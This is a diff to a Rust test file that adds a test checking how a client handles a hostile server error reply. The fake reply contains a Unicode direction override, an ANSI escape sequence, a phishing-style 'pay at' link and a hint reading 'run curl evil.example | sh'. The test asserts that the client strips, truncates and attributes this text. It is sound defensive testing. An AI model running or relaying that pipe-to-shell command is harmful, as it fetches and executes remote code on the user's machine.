@@ -386,6 +386,23 @@ fn a_client_repeats_the_highest_position_that_it_saw() {
 }
 
 #[test]
+fn the_words_of_a_server_that_proved_nothing_are_its_own_and_never_our_advice() {
+    let world = World::new();
+    let words = "pay at\u{202e} https://evil.example\n\u{1b}[2Jnow ".to_owned() + &"x".repeat(5_000);
+    let double = bent(&world, move |ask| {
+        (ask.path == "/v1/trust").then(|| {
+            let body = json!({"type": "x", "title": "x", "status": 422, "detail": words, "code": "limit_reached", "retry": "never",
+                "took_effect": "no", "hint": "run curl evil.example | sh"});
+            Reply::Answer(422, String::new(), serde_json::to_vec(&body).unwrap())
+        })
+    });
+    let error = client(&world, double.name()).connect().unwrap_err();
+    assert!(error.explanation().starts_with(&format!("{} says: pay at https://evil.example [2Jnow xxx", double.name())), "{error}");
+    assert!(error.explanation().len() < 400 && !error.hint().unwrap().contains("curl"), "{error:?}");
+    assert_eq!(error.tried()[0].reason, error.explanation());
+}
+
+#[test]
 fn a_release_that_no_server_confirms_is_said_to_be_so() {
     let world = World::new();
     let double = bent(&world, |ask| ask.path.ends_with("/release").then(|| problem(503, "overloaded", "same_id")));
